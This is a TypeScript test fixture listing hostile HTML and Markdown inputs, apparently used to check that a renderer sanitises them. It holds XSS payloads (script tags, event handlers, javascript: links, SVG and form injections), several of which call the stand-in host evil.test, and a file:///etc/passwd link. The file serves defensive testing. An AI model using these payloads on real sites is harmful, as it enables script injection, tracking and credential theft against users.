/** Content written to run, to load, to break out of its place or to pass for somebody else. */
export const HOSTILE: readonly { readonly name: string; readonly content: string }[] = [
  { name: 'a script', content: '<script>document.title="pwned";fetch("http://evil.test/")</script>' },
  { name: 'a split script', content: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  {
    name: 'event handlers',
    content:
      '<img src=x onerror="document.title=1"><b onmouseover=alert(1)>x</b><details open ontoggle=alert(1)>y</details>',
  },
  {
    name: 'javascript: links',
    content:
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) <a href="java\tscript:alert(1)">d</a> <a href=" javascript:alert(1)">e</a>',
  },
  {
    name: 'other schemes',
    content:
      '[a](data:text/html,<script>1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) <a href="//evil.test">e</a>',
  },
  {
    name: 'remote images',
    content:
      '![suivi](http://evil.test/p.gif) <img src="//evil.test/p.gif"> <img srcset="http://evil.test/2x.png 2x"> <picture><source srcset="http://evil.test/a"></picture>',
  },
  {
    name: 'frames and plugins',
    content:
      '<iframe src="http://evil.test" srcdoc="<script>1</script>"></iframe><object data="http://evil.test"></object><embed src="http://evil.test">',
  },
  {
    name: 'SVG and MathML',
    content:
      '<svg onload=alert(1)><script>1</script><a xlink:href="javascript:1"><text>x</text></a></svg><math><mtext><img src=x onerror=1></mtext></math>',
  },
  {
    name: 'a form',
    content:
      '<form action="http://evil.test"><input type="password" name="p"><button formaction="javascript:1">OK</button><textarea>x</textarea></form>',
  },
  {
    name: 'meta, base and link',
    content:
      '<meta http-equiv="refresh" content="0;url=http://evil.test"><base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/x.css">',
  },
  {
    name: 'style',
    content:
      '<style>body{background:url(http://evil.test)}</style><p style="position:fixed;inset:0;background:red">x</p>',
  },
  { name: 'an end of document', content: '</div></section></main></body></html><h1>faux</h1><body onload=alert(1)>' },
  { name: 'an unclosed comment', content: '<!-- jamais fermé <b>x</b>' },
  { name: 'CDATA and instructions', content: '<![CDATA[<script>1</script>]]> <?php echo 1 ?> <!DOCTYPE html>' },
  {
    name: 'an unclosed title and textarea',
    content: '<title><textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'a table that swallows', content: '<table><tr><td><table><caption></table><div>dehors<tr>x' },
  {
    name: 'nested links',
    content: '[a [b](http://b.test) c](http://a.test) <a href="http://c.test"><a href="http://d.test">d</a></a>',
  },
  {
    name: 'media',
    content:
      '<video src="http://evil.test/v" autoplay poster="http://evil.test/p"></video><audio src="http://evil.test/a" autoplay></audio>',
  },
  { name: 'ids of the tool', content: '<p id="page">x</p><p id="n1">y</p><a name="top">z</a><p id="sheet">t</p>' },
  {
    name: 'a template and a slot',
    content: '<template><script>1</script></template><slot name=x></slot><portal src="http://evil.test">',
  },
  {
    name: 'an autolink',
    content: '<javascript:alert(1)> <http://a.test/"onmouseover="alert(1)> http://b.test/<script>',
  },
  { name: 'a reference definition', content: '[x][y]\n\n[y]: javascript:alert(1) "titre"' },
  {
    name: 'a code fence with markup',
    content: '```html"><script>alert(1)</script>\n</code></pre><script>1</script>\n```',
  },
  { name: 'entities', content: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=1&#62;' },
  { name: 'directions turned around', content: '\u202Eetircé à srevne\u202C \u2066isolé\u2069' },
  {
    name: 'a shortcode',
    content:
      '{{< script src="http://evil.test" >}} {{% raw %}}<b>x</b>{{% /raw %}} {{ .Site.Params.secret }} {% include "x" %}',
  },
  {
    name: 'inputs',
    content:
      '<input type="checkbox" checked id="only"> <input type=image src="http://evil.test/i">\n\n- [x] fait\n- [ ] à faire',
  },
];

/** A page that holds the content as its body, in a Markdown field, and as its title. */
export function hostilePage(content: string): string {
  const field = content
    .split('\n')
    .map((line) => `  ${line}`)
    .join('\n');
  return `---\ntitle: ${JSON.stringify(content.slice(0, 150))}\ndesc: |\n  **Avant**\n\n${field}\n\n  Fin.\n---\n\nAvant\n\n${content}\n\nAprès\n`;
}
